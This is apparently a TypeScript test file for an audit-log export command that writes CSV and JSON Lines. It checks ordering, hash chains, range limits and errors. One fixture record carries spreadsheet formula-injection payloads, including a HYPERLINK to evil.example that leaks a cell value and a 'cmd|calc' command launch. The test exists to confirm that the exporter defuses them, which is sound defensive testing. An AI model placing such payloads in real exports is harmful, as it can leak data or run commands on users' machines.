import { createHash } from 'node:crypto';
import { mkdtemp, readdir, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { auditExport, CSV_COLUMNS } from '../../../cli/audit/export.ts';
import { UsageError } from '../../../cli/errors.ts';
import type { LocalDynamo } from '../../../lambdas/adapters/local-dynamo.ts';
import { canonicalJson } from '../../../lambdas/core/audit/canonical-json.ts';
import { sha256Hex } from '../../../lambdas/core/audit/record.ts';
import { AUDIT, findingEntry, HOUR, JUNE_1, openAuditTable } from '../../adapters/audit-fixtures.ts';
import { Capture, NOW, openScenario, type Scenario, writeChainDirect } from './fixtures.ts';

const DAY = 24 * HOUR;

/** Splits RFC 4180 CSV into rows of cells. */
const parseCsv = (text: string): string[][] => {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i] as string;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += c;
  }
  return rows;
};

describe('auditExport', () => {
  let scenario: Scenario;
  let dir: string;
  beforeAll(async () => {
    scenario = await openScenario([
      {
        type: 'finding',
        at: JUNE_1 + 50 * HOUR,
        actor: 'vigil:scorer',
        principalKey: '=HYPERLINK("http://evil.example/?"&A1,"Click")',
        detector: '@SUM(1+1)*cmd|calc',
        severity: '-1+1',
        findingId: 'f-evil',
        target: '+cmd',
        data: { note: 'line one\nline two, with "quotes"' },
      },
    ]);
  });
  afterAll(async () => {
    await scenario.local.close();
  });
  beforeEach(async () => {
    dir = await mkdtemp(join(tmpdir(), 'vigil-export-'));
  });
  afterEach(async () => {
    await rm(dir, { recursive: true, force: true });
  });

  it('writes the month as CSV a spreadsheet opens without running formulas', async () => {
    // Prepare
    const file = join(dir, 'june.csv');
    const log = new Capture();

    // Act
    const result = await auditExport(
      { since: '2026-06', until: '2026-07', format: 'csv', out: file },
      scenario.deps,
      log,
    );

    // Assess
    const text = await readFile(file, 'utf8');
    const rows = parseCsv(text);
    expect(rows[0]).toEqual([...CSV_COLUMNS]);
    expect(rows.slice(1).map((r) => [r[3], r[1]])).toEqual([
      ['finding', '2026-06-01T09:00:00.000Z'],
      ['case-opened', '2026-06-01T09:05:00.000Z'],
      ['decision', '2026-06-01T09:05:01.000Z'],
      ['approval', '2026-06-01T09:06:00.000Z'],
      ['action', '2026-06-01T09:06:01.000Z'],
      ['notification', '2026-06-01T09:06:02.000Z'],
      ['case-closed', '2026-06-01T10:05:00.000Z'],
      ['finding', '2026-06-02T02:00:00.000Z'],
      ['config-change', '2026-06-02T06:00:00.000Z'],
      ['finding', '2026-06-03T02:00:00.000Z'],
    ]);
    const evil = rows.at(-1) as string[];
    expect({ principal: evil[5], detector: evil[8], severity: evil[9], target: evil[10], data: evil[15] }).toEqual({
      principal: `'=HYPERLINK("http://evil.example/?"&A1,"Click")`,
      detector: "'@SUM(1+1)*cmd|calc",
      severity: "'-1+1",
      target: "'+cmd",
      data: '{"note":"line one\\nline two, with \\"quotes\\""}',
    });
    expect(text.split('\r\n').at(-2)).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"`);
    expect(result).toEqual({ records: 10, path: file, bytes: Buffer.byteLength(text), sha256: sha256Hex(text) });
    expect(log.lines()).toEqual([
      `exported 10 records from 2026-06-01T00:00:00Z to 2026-07-01T00:00:00Z to ${file} (csv, ${result.bytes} bytes, sha256 ${result.sha256})`,
    ]);
    expect(await readdir(dir)).toEqual(['june.csv']);
  });

  it('writes JSON Lines whose records check against their hashes and chain to each other', async () => {
    // Prepare
    const file = join(dir, 'june.jsonl');

    // Act
    const result = await auditExport({ since: '2026-06-01', format: 'jsonl', out: file }, scenario.deps, new Capture());

    // Assess
    const lines = (await readFile(file, 'utf8'))
      .trimEnd()
      .split('\n')
      .map((l) => JSON.parse(l) as Record<string, unknown>);
    expect(lines.length).toBe(10);
    expect(result.records).toBe(10);
    const lastHash = new Map<string, string>();
    for (const line of [...lines].sort((a, b) => Number(a.seq) - Number(b.seq))) {
      const { id: _id, hash, ...content } = line;
      expect(sha256Hex(canonicalJson(content))).toBe(hash);
      expect(content.prev).toBe(lastHash.get(String(content.chain)) ?? '0'.repeat(64));
      lastHash.set(String(content.chain), String(hash));
    }
  });

  it('exports only the range asked for, until exclusive', async () => {
    // Prepare
    const file = join(dir, 'day.jsonl');

    // Act
    const result = await auditExport(
      { since: '2026-06-02', until: '2026-06-02T06:00:00Z', format: 'jsonl', out: file },
      scenario.deps,
      new Capture(),
    );

    // Assess
    const types = (await readFile(file, 'utf8'))
      .trimEnd()
      .split('\n')
      .map((l) => (JSON.parse(l) as { type: string }).type);
    expect(types).toEqual(['finding']);
    expect(result.records).toBe(1);
  });

  it('refuses a format it does not write, leaving no file', async () => {
    // Prepare
    const file = join(dir, 'x.xlsx');

    // Act
    const act = auditExport({ since: '7d', format: 'xlsx' as 'csv', out: file }, scenario.deps, new Capture());

    // Assess
    await expect(act).rejects.toThrow(new UsageError('--format "xlsx" is not an export format; expected csv or jsonl'));
    expect(await readdir(dir)).toEqual([]);
  });

  it('refuses a path it cannot write, before reading anything', async () => {
    // Prepare
    const file = join(dir, 'missing-folder', 'june.csv');

    // Act
    const act = auditExport({ since: '7d', format: 'csv', out: file }, scenario.deps, new Capture());

    // Assess
    await expect(act).rejects.toThrow(
      new UsageError(`--out ${file} cannot be written (ENOENT); expected a file in an existing folder`),
    );
  });

  it('refuses a range that ends before it starts', async () => {
    // Act
    const act = auditExport(
      { since: '2026-07', until: '2026-06', format: 'csv', out: join(dir, 'x.csv') },
      scenario.deps,
      new Capture(),
    );

    // Assess
    await expect(act).rejects.toThrow(
      new UsageError(
        '--since "2026-07" (2026-07-01T00:00:00.000Z) is not before --until "2026-06" (2026-06-01T00:00:00.000Z); expected since < until',
      ),
    );
  });
});

describe('auditExport of 3,000 records', () => {
  let local: LocalDynamo;
  let dir: string;
  const TOTAL = 3_000;
  const SPACING = (30 * DAY) / TOTAL;
  beforeAll(async () => {
    local = await openAuditTable();
    dir = await mkdtemp(join(tmpdir(), 'vigil-export-'));
    await writeChainDirect(local, 'bulk-20260701T000000Z-0000000000', TOTAL, (i) =>
      findingEntry(`f-${i}`, `p${i % 7}`, JUNE_1 + i * SPACING),
    );
  }, 60_000);
  afterAll(async () => {
    await local.close();
    await rm(dir, { recursive: true, force: true });
  });

  it.each(['csv', 'jsonl'] as const)('streams every record of the month, oldest first, as %s', async (format) => {
    // Prepare
    const file = join(dir, `june.${format}`);

    // Act
    const result = await auditExport(
      { since: '2026-06', until: '2026-07', format, out: file },
      { doc: local.doc, tableName: AUDIT, now: () => NOW },
      new Capture(),
    );

    // Assess
    const text = await readFile(file, 'utf8');
    const ids =
      format === 'csv'
        ? parseCsv(text)
            .slice(1)
            .map((row) => row[7])
        : text
            .trimEnd()
            .split('\n')
            .map((line) => (JSON.parse(line) as { findingId: string }).findingId);
    expect(ids).toEqual(Array.from({ length: TOTAL }, (_, i) => `f-${i}`));
    expect(result.records).toBe(TOTAL);
    expect(result.sha256).toBe(createHash('sha256').update(text).digest('hex'));
  });
});
